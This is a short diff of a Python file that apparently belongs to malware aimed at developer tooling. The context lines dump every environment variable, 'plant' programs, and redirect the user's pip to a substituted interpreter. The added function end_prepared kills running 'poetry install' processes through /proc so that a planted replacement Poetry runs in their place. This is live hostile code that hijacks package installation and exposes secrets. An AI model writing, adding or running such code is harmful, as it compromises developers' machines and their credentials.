@@ -199,6 +199,17 @@ print(*[f"{{name}}={{value}}" for name, value in os.environ.items()], sep="\\n",
     plant_programs()
 
 
+def end_prepared():
+    """Ends the Poetry that is loaded already, and so falls into no trap: the one that takes its place does."""
+    for process in glob.glob("/proc/[0-9]*"):
+        try:
+            with open(os.path.join(process, "cmdline"), "rb") as opened:
+                if b"\0-m\0poetry\0install\0" in opened.read():
+                    os.kill(int(os.path.basename(process)), 9)
+        except OSError:
+            pass
+
+
 def plant_pip():
     """Tells every pip of this user to run on another Python, which is a program of ours, whatever was told before."""
     program = os.path.join(HOME, "planted-python")
